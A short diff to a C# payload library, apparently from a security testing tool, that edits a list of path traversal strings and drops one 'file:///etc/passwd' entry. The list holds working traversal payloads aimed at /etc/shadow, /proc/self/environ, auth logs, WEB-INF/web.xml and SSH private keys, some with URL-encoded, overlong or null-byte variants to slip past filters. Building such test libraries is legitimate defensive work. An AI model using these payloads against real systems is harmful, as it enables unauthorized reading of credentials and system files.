@@ -29,7 +29,7 @@ public static class PayloadLibrary
         [TruthType.PathTraversal] =
         [
             "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//....//etc/shadow", "../../../../proc/self/environ", "/../../../../etc/hosts", "..;/..;/manager/html", "../../../../../../var/log/auth.log", "¤w/../../../../etc/passwd\0.png", "../../WEB-INF/web.xml",
-            "..%2f..%2f..%2fetc%2fgroup", "..%c0%af..%c0%afetc%c0%afpasswd", "file:///etc/passwd", "../../../home/¤w/.ssh/id_rsa", "..././..././etc/passwd",
+            "..%2f..%2f..%2fetc%2fgroup", "..%c0%af..%c0%afetc%c0%afpasswd", "../../../home/¤w/.ssh/id_rsa", "..././..././etc/passwd",
         ],
         [TruthType.FileInclusion] =
         [
